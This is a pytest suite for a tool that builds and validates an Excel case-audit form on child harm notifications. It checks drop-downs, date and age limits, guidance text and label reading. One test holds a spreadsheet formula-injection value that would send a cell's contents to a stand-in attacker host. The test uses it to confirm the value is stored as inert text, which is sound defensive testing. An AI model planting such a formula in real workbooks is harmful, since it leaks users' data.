"""audit.intake.form: the blank case-audit workbook, read back, filled in and validated as it stands.

Also the readable labels end to end through reading and validation (issue 12 point 2):
a header "Father's mental ill health" is the flag, a cell "Universal services only" the code.
"""

from __future__ import annotations

import datetime as dt
import random
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from audit import cli
from audit.contract import (
    ANOTHER_MALE_CARER_CODES,
    CODE_LABELS,
    CODED_COLUMNS,
    COLUMN_LABELS,
    COLUMN_QUESTIONS,
    FLAG_COLUMNS,
    KNOWN_COLUMNS,
    flag_metric_id,
    match_header,
)
from audit.errors import IdentifierError, ParameterError, ValidationError
from audit.intake.form import FORM_TABLE, FORM_TITLE, MAX_ROWS, build_form, write_form
from audit.intake.validate import load_extract
from audit.measures.metrics import metrics_table
from conftest import TODAY

# Excel date serial numbers, counted by hand from Excel's day 0 (30 December 1899).
SERIAL_2018_06_29 = (dt.date(2018, 6, 29) - dt.date(1899, 12, 30)).days
SERIAL_2100_12_31 = (dt.date(2100, 12, 31) - dt.date(1899, 12, 30)).days
assert SERIAL_2018_06_29 == 43280  # as Excel shows =DATEVALUE("29/06/2018")


def _validations(sheet) -> dict[str, object]:
    """Data validations by the range they cover ("A1", "A2:A201")."""
    return {str(dv.sqref): dv for dv in sheet.data_validations.dataValidation}


def _letters(column: str) -> str:
    from openpyxl.utils import get_column_letter

    return get_column_letter(KNOWN_COLUMNS.index(column) + 1)


@pytest.fixture(scope="module")
def form(tmp_path_factory) -> Path:
    return write_form(tmp_path_factory.mktemp("form") / "audit-form.xlsx")


# ------------------------------------------------------------------------ the blank form


def test_cases_sheet_has_the_contract_columns_as_readable_headers(form):
    book = load_workbook(form)
    assert book.sheetnames == ["Cases", "Guidance"]  # Cases first: read by default
    sheet = book["Cases"]
    headers = [cell.value for cell in sheet[1]]
    assert headers == [COLUMN_LABELS[c] for c in KNOWN_COLUMNS]
    assert [match_header(h) for h in headers] == list(KNOWN_COLUMNS)
    assert headers[:5] == ["Case ID", "Notification date", "Child age (months)", "Harmed by",
                           "Known to services"]
    assert "Father's mental ill health" in headers
    assert sheet.freeze_panes == "B2"  # header row (and the case ID) stay in view
    assert sheet.print_title_rows == "$1:$1"
    assert not sheet.merged_cells.ranges
    assert not book["Guidance"].merged_cells.ranges
    assert all(sheet.cell(1, i).alignment.wrap_text for i in range(1, len(headers) + 1))
    assert all(sheet.cell(1, i).font.b for i in range(1, len(headers) + 1))
    assert sheet.max_row == 201  # 200 blank case rows by default, styled but empty
    assert all(cell.value is None for row in sheet.iter_rows(min_row=2) for cell in row)
    # The case rows are an Excel table, so the header row is marked as one.
    (table,) = sheet.tables.values()
    assert (table.displayName, table.ref) == (FORM_TABLE, "A1:AD201")
    assert table.headerRowCount in (None, 1)
    assert book.properties.title == FORM_TITLE
    assert book.properties.language == "en-GB"


def test_column_widths_fit_the_labels_and_answers(form):
    sheet = load_workbook(form)["Cases"]
    for column in KNOWN_COLUMNS:
        width = sheet.column_dimensions[_letters(column)].width
        longest_word = max(len(w) for w in COLUMN_LABELS[column].split())
        longest_answer = max((len(a) for a in CODE_LABELS.get(column, {}).values()), default=0)
        assert width >= max(longest_word, longest_answer) + 2, column
        assert width <= 30
    # The header row is tall enough for the longest label wrapped at its column's width.
    assert sheet.row_dimensions[1].height >= 30


def test_every_header_asks_its_question_and_every_column_is_validated(form):
    dvs = _validations(load_workbook(form)["Cases"])
    for column in KNOWN_COLUMNS:
        letter = _letters(column)
        header, cells = dvs[f"{letter}1"], dvs[f"{letter}2:{letter}201"]
        for dv in (header, cells):
            assert dv.showInputMessage
            assert dv.prompt == COLUMN_QUESTIONS[column]
            assert dv.promptTitle == COLUMN_LABELS[column]
        assert header.type is None  # any value: the header is not an answer
        assert cells.showErrorMessage and cells.errorStyle == "stop" and cells.error
        assert cells.allow_blank
    assert dvs["Q1"].prompt == ("Were enquiries about the father made with anyone other than "
                                "the mother?")


def test_drop_downs_offer_the_readable_labels(form):
    dvs = _validations(load_workbook(form)["Cases"])
    for column in (*CODED_COLUMNS, *FLAG_COLUMNS):
        letter = _letters(column)
        dv = dvs[f"{letter}2:{letter}201"]
        assert dv.type == "list", column
        assert dv.formula1 == '"' + ",".join(CODE_LABELS[column].values()) + '"'
    letter = _letters("harmed_by")
    assert dvs[f"{letter}2:{letter}201"].formula1 == (
        '"Birth father,Stepfather,Mother\'s partner,Other male carer,Not known"')
    assert dvs["F2:F201"].formula1 == '"Yes,No,Not known"'  # domestic_abuse


def test_dates_and_ages_are_validated(form):
    dvs = _validations(load_workbook(form)["Cases"])
    date = dvs["B2:B201"]
    assert (date.type, date.operator) == ("date", "between")
    assert (int(date.formula1), int(date.formula2)) == (SERIAL_2018_06_29, SERIAL_2100_12_31)
    age = dvs["C2:C201"]
    assert (age.type, age.operator, age.formula1, age.formula2) == ("whole", "between", "0",
                                                                     "11")
    assert "12 months or more is outside this audit" in age.error
    letter = _letters("father_age_at_birth")
    father = dvs[f"{letter}2:{letter}201"]
    assert (father.type, father.formula1, father.formula2) == ("whole", "12", "80")
    case_id = dvs["A2:A201"]
    assert (case_id.type, case_id.formula1) == ("custom", "COUNTIF($A$2:$A$201,A2)=1")
    sheet = load_workbook(form)["Cases"]
    assert sheet["B2"].number_format == "DD/MM/YYYY"
    assert sheet["A2"].number_format == "@"  # "007" stays "007"


def test_guidance_says_who_fills_it_in_what_answers_mean_and_what_never_goes_in(form):
    sheet = load_workbook(form)["Guidance"]
    text = "\n".join(str(c.value) for row in sheet.iter_rows() for c in row if c.value)
    assert sheet["A1"].value == "How to fill in the case-audit form"
    for needed in ("Who fills it in", "No names, dates of birth, NHS numbers, addresses",
                   "pseudonymous reference", "Not known is counted apart, never as No",
                   "29/06/2018", "Universal services only: known only to services every "
                   "family gets", "Mother's partner: the mother's partner"):
        assert needed in text, needed
    # One row of the column table a contract column, in the form's order.
    labels = [c.value for c in sheet["A"]]
    start = labels.index("Column") + 1
    assert labels[start:start + len(KNOWN_COLUMNS)] == [COLUMN_LABELS[c] for c in KNOWN_COLUMNS]
    assert "FormColumns" in sheet.tables


def test_partnership_drop_down_offers_the_one_name_held_as_text(tmp_path):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    path = write_form(tmp_path / "form.xlsx", partnership=hostile, rows=5)
    book = load_workbook(path)
    letter = _letters("partnership")
    dv = _validations(book["Cases"])[f"{letter}2:{letter}6"]
    assert dv.type == "list"
    sheet_name, cell = re.fullmatch(r"(\w+)!\$([A-Z]+\$\d+)", dv.formula1).groups()
    assert book[sheet_name][cell.replace("$", "")].value == hostile
    with zipfile.ZipFile(path) as archive:  # written as text: no formula anywhere
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    # Not filled in beforehand: unused rows stay blank rows.
    assert all(book["Cases"][f"{letter}{r}"].value is None for r in range(2, 7))


@pytest.mark.parametrize("kwargs", [
    {"rows": 0}, {"rows": -3}, {"rows": MAX_ROWS + 1}, {"rows": True}, {"rows": 2.5},
    {"rows": "200"}, {"partnership": "   "}, {"partnership": "x" * 101},
    {"partnership": "Harbour\x1bside"}, {"partnership": 3},
])
def test_unusable_arguments_are_parameter_errors_and_nothing_is_written(tmp_path, kwargs):
    target = tmp_path / "form.xlsx"
    target.write_bytes(b"previous")
    with pytest.raises(ParameterError):
        write_form(target, **kwargs)
    assert target.read_bytes() == b"previous"
    assert [p.name for p in tmp_path.iterdir()] == ["form.xlsx"]


def test_the_file_must_be_an_xlsx_name_not_a_folder(tmp_path):
    with pytest.raises(ParameterError, match=r"\.xlsx"):
        write_form(tmp_path / "form.csv")
    (tmp_path / "forms.xlsx").mkdir()
    with pytest.raises(ParameterError, match="folder"):
        write_form(tmp_path / "forms.xlsx")
    assert write_form(tmp_path / "new" / "Form.XLSX").is_file()  # parent folders made


def test_build_form_rows_and_names_are_trimmed():
    book = build_form(partnership="  Pan   Bedfordshire ", rows=3)
    guidance = book["Guidance"]
    assert "Pan Bedfordshire" in [c.value for c in guidance["B"]]
    assert book["Cases"].tables[FORM_TABLE].ref == "A1:AD4"


# -------------------------------------------------------- filled in, validated unchanged


def _list_items(book, dv) -> list[str]:
    """The entries of a list validation, inline or referenced, as Excel would offer them."""
    formula = dv.formula1
    if formula.startswith('"'):
        return formula.strip('"').split(",")
    sheet_name, cell = formula.split("!")
    return [book[sheet_name][cell.replace("$", "")].value]


def _fill(path: Path, n: int, seed: int) -> list[dict[str, object]]:
    """Fill ``n`` rows using only what the form's own validations allow; return the rows
    as written (by column name), for counting."""
    rng = random.Random(seed)
    book = load_workbook(path)
    sheet = book["Cases"]
    dvs = {str(dv.sqref).split(":")[0][:-1]: dv for dv in sheet.data_validations.dataValidation
           if ":" in str(dv.sqref)}
    headers = {cell.value: cell.column_letter for cell in sheet[1]}
    written = []
    for i in range(n):
        row: dict[str, object] = {}
        for header, letter in headers.items():
            column = match_header(header)
            dv = dvs[letter]
            if dv.type == "list":
                value: object = rng.choice(_list_items(book, dv))
            elif dv.type == "whole":
                value = rng.randint(int(dv.formula1), int(dv.formula2))
            elif dv.type == "date":
                first = dt.date(1899, 12, 30) + dt.timedelta(days=int(dv.formula1))
                value = first + dt.timedelta(days=rng.randint(0, (TODAY - first).days))
            elif dv.type == "custom":  # the case ID: unique
                value = f"AUD-{seed}-{i + 1:03d}"
            else:  # partnership without a name given: free text
                value = rng.choice(["Harbourside", "Northmoor"])
            sheet[f"{letter}{i + 2}"] = value
            row[column] = value
        written.append(row)
    book.save(path)
    return written


def _independent_counts(rows: list[dict[str, object]]) -> dict[str, tuple[int, int, int]]:
    """metric -> (numerator, denominator, unknown), counted with plain Python from the
    labels as filled in (the contract's definitions, in the form's words)."""
    def tally(column: str) -> dict[str, int]:
        counts: dict[str, int] = {}
        for row in rows:
            counts[str(row[column])] = counts.get(str(row[column]), 0) + 1
        return counts

    out: dict[str, tuple[int, int, int]] = {}
    harmed = tally("harmed_by")
    unknown = harmed.get("Not known", 0)
    known = len(rows) - unknown
    labels = CODE_LABELS["harmed_by"]
    out["harmed_by.birth_father"] = (harmed.get("Birth father", 0), known, unknown)
    out["harmed_by.another_male_carer"] = (
        sum(harmed.get(labels[c], 0) for c in ANOTHER_MALE_CARER_CODES), known, unknown)
    services = tally("known_to")
    unknown = services.get("Not known", 0)
    known = len(rows) - unknown
    none = services.get("None", 0)
    out["known_to.none"] = (none, known, unknown)
    for code, label in CODE_LABELS["known_to"].items():
        if code not in ("none", "unknown"):
            out[f"known_to.{code}"] = (services.get(label, 0), known - none, unknown)
    for flag in FLAG_COLUMNS:
        answers = tally(flag)
        yes, no = answers.get("Yes", 0), answers.get("No", 0)
        out[flag_metric_id(flag)] = (yes, yes + no, answers.get("Not known", 0))
    return out


@pytest.mark.parametrize("partnership", [None, "Harbourside"])
def test_a_form_filled_from_its_own_drop_downs_validates_unchanged(tmp_path, partnership):
    path = write_form(tmp_path / "audit-form.xlsx", partnership=partnership)
    rows = _fill(path, 30, seed=13)

    done = subprocess.run([sys.executable, "-m", "audit.cli", "validate", str(path)],
                          capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    assert "usable (sheet 'Cases')" in done.stdout
    assert re.search(r"rows read:\s+30\b", done.stdout)
    assert re.search(r"flags not recorded:\s+none", done.stdout)
    assert re.search(r"columns ignored:\s+none", done.stdout)

    extract = load_extract(path, today=TODAY)
    assert len(extract.cases) == 30 and extract.excluded.empty
    table = metrics_table(extract.cases).set_index("metric")
    expected = _independent_counts(rows)
    assert set(expected) == set(table.index)
    for metric, (numerator, denominator, unknown) in expected.items():
        got = table.loc[metric]
        assert (got["numerator"], got["denominator"], got["unknown"]) == (
            numerator, denominator, unknown), metric
        if denominator:
            assert got["rate"] == pytest.approx(numerator / denominator)
    # The typed cases hold the codes the labels stand for.
    assert list(extract.cases["case_id"]) == [r["case_id"] for r in rows]
    assert [str(x) for x in extract.cases["harmed_by"]] == [
        {v: k for k, v in CODE_LABELS["harmed_by"].items()}[r["harmed_by"]] for r in rows]
    assert [d.date() for d in extract.cases["notification_date"]] == [
        r["notification_date"] for r in rows]
    if partnership is not None:
        assert set(extract.cases["partnership"]) == {partnership}


def test_every_label_of_every_drop_down_validates(tmp_path):
    """One row a label, so "None", "Death" and every other choice is read as its code."""
    path = write_form(tmp_path / "audit-form.xlsx", rows=10)
    book = load_workbook(path)
    sheet = book["Cases"]
    columns = ["harmed_by", "known_to", "incident_type", "father_seen"]
    width = max(len(CODE_LABELS[c]) for c in columns)
    for i in range(width):
        sheet[f"A{i + 2}"] = f"C{i}"
        sheet[f"B{i + 2}"] = dt.date(2024, 5, 1)
        sheet[f"C{i + 2}"] = 3
        for column in columns:
            labels = list(CODE_LABELS[column].values())
            sheet[f"{_letters(column)}{i + 2}"] = labels[i % len(labels)]
    book.save(path)
    cases = load_extract(path, today=TODAY).cases
    for column in columns:
        codes = list(CODE_LABELS[column])
        assert [str(x) for x in cases[column]] == [codes[i % len(codes)] for i in range(width)]


def test_a_form_saved_by_hand_with_a_repeated_case_id_is_still_caught(tmp_path):
    path = write_form(tmp_path / "audit-form.xlsx", rows=5)
    book = load_workbook(path)
    sheet = book["Cases"]
    for r in (2, 3):  # openpyxl does not apply Excel's validation: validate still checks
        sheet[f"A{r}"], sheet[f"B{r}"], sheet[f"C{r}"] = "X-1", dt.date(2024, 1, 5), 2
        sheet[f"D{r}"], sheet[f"E{r}"] = "Birth father", "Early Help"
    book.save(path)
    assert cli.main(["validate", str(path)]) == cli.EXIT_INPUT


# ------------------------------------------------- readable labels through read and validate


LABELLED = (
    "Case ID,Notification date,Child age (months),Harmed by,Known to services,"
    "Father\u2019s mental ill health,Enquiries beyond the mother,Father seen,Incident type,"
    "Partnership,Father's age at birth\n"
    "R1,01/03/2024,3,Mother\u2019s partner,Universal services only,Yes,Not known,No,"
    "Serious harm,Harbourside,24\n"
    "R2,2024-04-02,0,Birth father,None,No,Yes,Yes,Death,Harbourside,\n"
    "R3,2024-05-03,11,Not known,Child protection plan,Not known,No,Not known,Not known,Harbourside,31\n"
)
CODED = (
    "case_id,notification_date,child_age_months,harmed_by,known_to,"
    "father_mental_ill_health,father_enquiry_beyond_mother,father_seen,incident_type,"
    "partnership,father_age_at_birth\n"
    "R1,2024-03-01,3,mothers_partner,universal,yes,unknown,no,serious_harm,Harbourside,24\n"
    "R2,2024-04-02,0,birth_father,none,no,yes,yes,death,Harbourside,\n"
    "R3,2024-05-03,11,unknown,child_protection_plan,unknown,no,unknown,unknown,Harbourside,31\n"
)


def test_labels_and_codes_read_as_the_same_cases(write):
    labelled = load_extract(write(LABELLED, "labelled.csv"), today=TODAY, allow_missing="all")
    coded = load_extract(write(CODED, "coded.csv"), today=TODAY, allow_missing="all")
    assert labelled.ignored_columns == ()
    assert "father_mental_ill_health" not in labelled.missing_flags
    assert labelled.missing_flags == coded.missing_flags
    import pandas as pd

    pd.testing.assert_frame_equal(labelled.cases, coded.cases)
    assert metrics_table(labelled.cases).equals(metrics_table(coded.cases))


def test_the_issue_12_header_is_recognised_by_audit_validate(write, capsys):
    path = write("case_id,notification_date,child_age_months,harmed_by,known_to,"
                 "Father's mental ill health\nR1,2024-03-01,3,birth_father,universal,yes\n")
    # the other 21 measures are deliberately absent: said so
    assert cli.main(["validate", str(path), "--allow-missing", "all"]) == cli.EXIT_OK
    out = capsys.readouterr().out
    assert "father_mental_ill_health" not in out.split("flags not recorded:")[1].split("\n")[0]
    assert re.search(r"columns ignored:\s+none", out)


def test_a_label_and_the_column_name_together_are_a_clash(write):
    path = write("case_id,notification_date,child_age_months,harmed_by,known_to,"
                 "Father's mental ill health,father_mental_ill_health\n"
                 "R1,2024-03-01,3,birth_father,universal,yes,yes\n")
    with pytest.raises(ValidationError, match="name the same column") as caught:
        load_extract(path, today=TODAY)
    assert "'Father's mental ill health' (column 6) and 'father_mental_ill_health' (column 7)" \
        in str(caught.value)


def test_identifier_headers_are_still_refused_beside_labels(write):
    path = write("Case ID,Notification date,Child age (months),Harmed by,Known to services,"
                 "Father's name\nR1,2024-03-01,3,Birth father,None,x\n")
    with pytest.raises(IdentifierError, match="direct identifiers"):
        load_extract(path, today=TODAY)


def test_labels_below_a_title_row_are_found(tmp_path):
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet["A1"] = "Case audit, quarter 1"
    sheet.append([])
    sheet.append(["Case ID", "Notification date", "Child age (months)", "Harmed by",
                  "Known to services"])
    sheet.append(["R1", dt.date(2024, 3, 1), 3, "Birth father", "Early Help"])
    path = tmp_path / "titled.xlsx"
    book.save(path)
    with pytest.raises(ValidationError) as caught:
        load_extract(path, today=TODAY)
    assert "row 1 does not hold the column names, but row 3 does" in str(caught.value)


# ----------------------------------------------------------------------- `audit form`


def test_audit_form_command_writes_the_form(tmp_path, capsys):
    target = tmp_path / "audit-form.xlsx"
    assert cli.main(["form", "-o", str(target), "--partnership", "Northbridge",
                     "--rows", "30"]) == 0
    book = load_workbook(target)
    assert book.sheetnames == ["Cases", "Guidance"]
    # 30 case rows under the header (A1 to the last contract column, row 31).
    assert book["Cases"].tables[FORM_TABLE].ref == "A1:AD31"
    letter = _letters("partnership")
    dv = _validations(book["Cases"])[f"{letter}2:{letter}31"]
    sheet_name, cell = re.fullmatch(r"(\w+)!\$([A-Z]+\$\d+)", dv.formula1).groups()
    assert book[sheet_name][cell.replace("$", "")].value == "Northbridge"
    assert "30 case rows" in capsys.readouterr().err


def test_audit_form_command_defaults_to_200_rows(tmp_path):
    target = tmp_path / "form.xlsx"
    assert cli.main(["form", "--output", str(target)]) == 0
    assert load_workbook(target)["Cases"].tables[FORM_TABLE].ref == "A1:AD201"


@pytest.mark.parametrize(("argv", "words"), [
    (["--rows", "0"], "number of case rows"),
    (["--partnership", "   "], "partnership name is blank"),
])
def test_audit_form_command_refuses_bad_arguments_with_exit_2(tmp_path, capsys, argv, words):
    target = tmp_path / "form.xlsx"
    assert cli.main(["form", "-o", str(target), *argv]) == 2
    err = capsys.readouterr().err
    assert err.startswith("audit form: ") and words in err
    assert list(tmp_path.iterdir()) == []


def test_audit_form_command_wants_an_xlsx_name(tmp_path, capsys):
    assert cli.main(["form", "-o", str(tmp_path / "form.csv")]) == 2
    assert ".xlsx" in capsys.readouterr().err
    assert list(tmp_path.iterdir()) == []


def test_audit_form_help_names_its_options(capsys):
    with pytest.raises(SystemExit) as exit_info:
        cli.main(["form", "--help"])
    assert exit_info.value.code == 0
    text = capsys.readouterr().out
    for option in ("--output", "--partnership", "--rows", "Guidance"):
        assert option in text


def test_a_returned_form_with_its_guidance_sheet_first_reads_its_cases_sheet(tmp_path, capsys):
    """Issue 21: the Guidance sheet moved first made 'audit validate' read it and fail."""
    path = write_form(tmp_path / "return.xlsx", partnership="Harbourside")
    _fill(path, 6, seed=21)
    book = load_workbook(path)
    book.move_sheet("Guidance", offset=-1)
    book.save(path)
    assert load_workbook(path).sheetnames == ["Guidance", "Cases"]
    assert cli.main(["validate", str(path)]) == cli.EXIT_OK
    out = capsys.readouterr().out
    assert out.startswith("return.xlsx: usable (sheet 'Cases')")
    assert "in scope (0-11 m):   6" in out



def test_a_return_naming_another_partnership_than_its_form_is_warned_of(tmp_path, capsys):
    """A new analyst's form made for Kestrel Vale came back holding Harrowmere and passed
    in silence (7 Dec 2026): the Guidance sheet says whom the form is for, and rows that
    name another are a warning with their rows (not a stop: a partnership may be renamed).
    Rows 2-7 hold the six cases; 3 and 5 are set to Harrowmere."""
    path = write_form(tmp_path / "return.xlsx", partnership="Kestrel Vale")
    _fill(path, 6, seed=21)
    book = load_workbook(path)
    letter = next(c.column_letter for c in book["Cases"][1] if c.value == "Partnership")
    for row in (3, 5):
        book["Cases"][f"{letter}{row}"] = "Harrowmere"
    book.save(path)
    assert cli.main(["validate", str(path)]) == cli.EXIT_OK
    captured = capsys.readouterr()
    assert ("this form was made for 'Kestrel Vale' (its Guidance sheet), but 2 rows of sheet "
            "'Cases' name 'Harrowmere' (rows 3, 5): check the return is the one you asked "
            "for, or correct its Partnership column") in captured.out + captured.err
    # every row its own partnership's, spaced or cased otherwise, or no name on the form:
    # nothing said
    for partnership, typed in (("Kestrel Vale", " kestrel  vale "), ("Kestrel Vale", None),
                               (None, None)):
        clean = write_form(tmp_path / f"clean-{partnership}-{typed}.xlsx",
                           partnership=partnership)
        _fill(clean, 6, seed=21)
        if typed is not None:
            book = load_workbook(clean)
            for row in range(2, 8):
                book["Cases"][f"{letter}{row}"] = typed
            book.save(clean)
        assert cli.main(["validate", str(clean)]) == cli.EXIT_OK
        captured = capsys.readouterr()
        assert "this form was made for" not in captured.out + captured.err
